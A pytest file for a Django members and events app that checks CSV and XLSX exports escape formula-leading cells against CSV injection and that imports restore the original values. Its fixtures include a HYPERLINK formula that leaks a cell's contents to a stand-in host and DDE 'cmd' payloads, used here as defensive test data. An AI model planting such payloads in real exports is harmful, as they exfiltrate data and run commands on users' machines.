"""No export hands a spreadsheet a live formula: every CSV and XLSX export (registrations from
the event and registration admins, organisations and people from the import-export admin)
escapes cells starting with = + - @ (OWASP "CSV injection"), and imports undo the escape."""

import csv
import io

import pytest
import tablib
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse
from openpyxl import load_workbook

from members.models import Organisation, Person
from members.resources import OrganisationResource, PersonResource
from network.lib.spreadsheets import csv_bytes, escape_formula, unescape_formula

from ..events.factories import EventFactory, RegistrationFactory
from ..factories import OrganisationFactory, PersonFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?x="&A1, "Click")'
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+1)*cmd|' /C calc'!A0"
ATTACKS = [HYPERLINK, PLUS, MINUS, AT]


def csv_cells(content: bytes) -> list[str]:
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    return [cell for row in rows for cell in row]


def xlsx_cells(content: bytes) -> list:
    sheet = load_workbook(io.BytesIO(content)).active
    return [cell.value for row in sheet.iter_rows() for cell in row]


def assert_defused(cells):
    for attack in ATTACKS:
        assert attack not in cells, attack
        assert "'" + attack in cells, attack
    for cell in cells:
        assert not (isinstance(cell, str) and cell.startswith(("=", "+", "-", "@"))), cell


# --- The helper ------------------------------------------------------------------------------------


@pytest.mark.parametrize("attack", [*ATTACKS, "\t=1+1", "\r=1+1"])
def test_helper_escapes_and_unescapes_formula_starts(attack):
    assert escape_formula(attack) == "'" + attack
    assert unescape_formula(escape_formula(attack)) == attack


@pytest.mark.parametrize("value", ["เชียงราย", "a=b", "", None, 12, 1.5, "'quoted", "1-2"])
def test_helper_leaves_other_values_alone(value):
    assert escape_formula(value) == value
    assert unescape_formula(value) == value


def test_csv_bytes_escapes_every_cell():
    assert_defused(csv_cells(csv_bytes([ATTACKS, ["ok", *ATTACKS]])))


# --- Registrations (hand-written CSV and XLSX in events/exports.py) ---------------------------------


@pytest.fixture
def registrations():
    event = EventFactory(title_en=HYPERLINK, title_th=HYPERLINK)
    organisation = OrganisationFactory(name_en=AT, name_th=AT)
    return [
        RegistrationFactory(
            event=event,
            person=PersonFactory(name_en=PLUS, name_th=PLUS),
            organisation=organisation,
            diet=MINUS,
            access=HYPERLINK,
        ),
        RegistrationFactory(event=event, person=PersonFactory(name_en=MINUS, name_th=MINUS)),
    ]


def act(client, model, action, objects):
    return client.post(
        reverse(f"admin:events_{model}_changelist"),
        {"action": action, ACTION_CHECKBOX_NAME: [o.pk for o in objects]},
    )


@pytest.mark.parametrize("model", ["event", "registration"])
def test_registration_csv_exports_escape_formulas(client_for, coordinator, registrations, model):
    objects = [registrations[0].event] if model == "event" else registrations
    response = act(client_for(coordinator), model, "export_csv", objects)
    assert response["Content-Type"].startswith("text/csv")
    assert_defused(csv_cells(response.content))


@pytest.mark.parametrize("model", ["event", "registration"])
def test_registration_xlsx_exports_escape_formulas(client_for, coordinator, registrations, model):
    objects = [registrations[0].event] if model == "event" else registrations
    response = act(client_for(coordinator), model, "export_xlsx", objects)
    assert_defused(xlsx_cells(response.content))


# --- Organisations and people (django-import-export in the admin) ----------------------------------


def admin_export(client, model, format_index):
    form = client.get(f"/en/admin/members/{model}/export/").context["form"]
    data = {"format": str(format_index), "resource": "0"}
    data.update({name: "on" for name in form.fields if name.startswith(f"{model}resource_")})
    return client.post(f"/en/admin/members/{model}/export/", data)


@pytest.fixture
def poisoned_members():
    organisation = OrganisationFactory(
        name_en=HYPERLINK, name_th=PLUS, short_name=MINUS, address=AT, phone="+66 53 711 333"
    )
    person = PersonFactory(
        name_en=HYPERLINK, name_th=AT, position=MINUS, phone=PLUS, bio="-- a plain bio"
    )
    return organisation, person


@pytest.mark.parametrize("model", ["organisation", "person"])
def test_admin_csv_export_escapes_formulas(client_for, coordinator, poisoned_members, model):
    response = admin_export(client_for(coordinator), model, 0)  # formats = [CSV, XLSX]
    assert response.status_code == 200
    assert_defused(csv_cells(response.content))


@pytest.mark.parametrize("model", ["organisation", "person"])
def test_admin_xlsx_export_escapes_formulas(client_for, coordinator, poisoned_members, model):
    response = admin_export(client_for(coordinator), model, 1)
    assert response.status_code == 200
    assert_defused(xlsx_cells(response.content))


def test_escaped_export_imports_back_unchanged(client_for, coordinator, poisoned_members):
    organisation, person = poisoned_members
    content = admin_export(client_for(coordinator), "organisation", 0).content
    Organisation.objects.filter(pk=organisation.pk).update(name_en="Changed", phone="")
    dataset = tablib.Dataset().load(content.decode("utf-8-sig"), format="csv")
    result = OrganisationResource().import_data(dataset, dry_run=False, raise_errors=True)
    assert not result.has_errors() and not result.has_validation_errors()
    organisation.refresh_from_db()
    assert organisation.name_en == HYPERLINK
    assert organisation.phone == "+66 53 711 333"

    csv_text = PersonResource().export().export("csv")
    assert "'" + PLUS in csv_text
    Person.objects.filter(pk=person.pk).update(position="Changed")
    PersonResource().import_data(
        tablib.Dataset().load(csv_text, format="csv"), dry_run=False, raise_errors=True
    )
    person.refresh_from_db()
    assert person.position == MINUS and person.phone == PLUS
